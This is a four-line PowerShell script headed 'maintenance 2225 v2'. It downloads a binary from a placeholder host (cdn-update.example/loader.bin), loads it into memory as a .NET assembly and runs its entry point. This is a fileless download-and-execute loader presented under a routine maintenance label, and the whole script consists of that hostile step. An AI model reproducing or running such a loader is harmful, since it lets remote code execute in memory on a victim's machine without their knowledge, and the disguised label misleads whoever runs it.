# maintenance 2225 v2
$b = (New-Object Net.WebClient).DownloadData('http://cdn-update.example/loader.bin')
$a = [System.Reflection.Assembly]::Load($b)
$a.EntryPoint.Invoke($null, (, [string[]] @()))
